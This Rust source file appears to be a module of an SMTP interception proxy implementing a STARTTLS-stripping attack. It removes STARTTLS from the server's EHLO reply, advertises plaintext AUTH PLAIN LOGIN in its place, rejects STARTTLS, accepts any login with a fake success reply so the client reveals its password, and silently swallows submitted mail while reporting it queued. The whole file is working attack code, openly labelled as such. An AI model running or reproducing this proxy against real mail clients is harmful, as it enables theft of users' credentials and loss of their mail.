//! The attack that hides STARTTLS and accepts the mail itself.

use std::io;

use super::ProxyState;
use super::relay::{exchange, next_line, read_reply, verb, write_line, write_reply};
use crate::wire::Channel;

pub(super) fn serve(state: &ProxyState, mut client: Channel) -> io::Result<()> {
    let mut upstream = Channel::connect(state.config.upstream_starttls)?;
    let greeting = read_reply(&mut upstream)?;
    write_reply(&mut client, &greeting)?;
    while let Some(line) = next_line(&mut client)? {
        match verb(&line).as_str() {
            "EHLO" => {
                write_line(&mut upstream, &line)?;
                let reply = read_reply(&mut upstream)?;
                write_reply(&mut client, &without_starttls(&reply))?;
            }
            "STARTTLS" => client.write(b"502 5.5.1 Not implemented\r\n")?,
            "AUTH" => accept_login(&mut client, &line)?,
            "MAIL" | "RCPT" | "RSET" => client.write(b"250 2.0.0 Ok\r\n")?,
            "DATA" => {
                client.write(b"354 Go on\r\n")?;
                while next_line(&mut client)?.is_some_and(|line| line != b".") {}
                client.write(b"250 2.0.0 Ok: queued\r\n")?;
            }
            "QUIT" => {
                exchange(&mut client, &mut upstream, &line)?;
                break;
            }
            _ => drop(exchange(&mut client, &mut upstream, &line)?),
        }
    }
    client.close();
    Ok(())
}

/// Replaces STARTTLS in an EHLO reply by AUTH, to which a careless client sends its password.
fn without_starttls(reply: &[Vec<u8>]) -> Vec<Vec<u8>> {
    if !reply.first().is_some_and(|line| line.starts_with(b"250")) {
        return reply.to_vec();
    }
    let texts = reply.iter().map(|line| line.get(4..).unwrap_or_default());
    let mut kept: Vec<&[u8]> = texts
        .filter(|text| !text.eq_ignore_ascii_case(b"STARTTLS"))
        .collect();
    kept.push(b"AUTH PLAIN LOGIN");
    let last = kept.len() - 1;
    let line = |(at, text): (usize, &&[u8])| {
        let head: &[u8] = if at == last { b"250 " } else { b"250-" };
        [head, text].concat()
    };
    kept.iter().enumerate().map(line).collect()
}

/// Requests the remaining responses of the mechanism, and accepts any.
fn accept_login(client: &mut Channel, line: &[u8]) -> io::Result<()> {
    let text = String::from_utf8_lossy(line).to_ascii_uppercase();
    let words = text.split_ascii_whitespace().collect::<Vec<_>>();
    let login = words.get(1) == Some(&"LOGIN");
    let mut owed: Vec<&[u8]> = if login {
        vec![b"334 VXNlcm5hbWU6\r\n", b"334 UGFzc3dvcmQ6\r\n"]
    } else {
        vec![b"334 \r\n"]
    };
    if words.len() > 2 {
        owed.remove(0);
    }
    for challenge in owed {
        client.write(challenge)?;
        if next_line(client)?.is_none() {
            return Ok(());
        }
    }
    client.write(b"235 2.7.0 Welcome\r\n")
}
